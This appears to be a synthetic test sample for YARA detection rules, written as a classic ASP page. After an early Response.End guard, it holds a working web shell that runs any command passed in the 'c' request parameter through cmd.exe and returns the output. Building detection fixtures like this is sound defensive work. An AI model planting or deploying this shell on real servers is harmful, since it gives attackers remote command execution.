<%
' Vigil YARA test sample: synthetic; Response.End comes first.
Response.End
%>
<%
Set sh = Server.CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd /c " & Request("c"))
Response.Write ex.StdOut.ReadAll()
%>
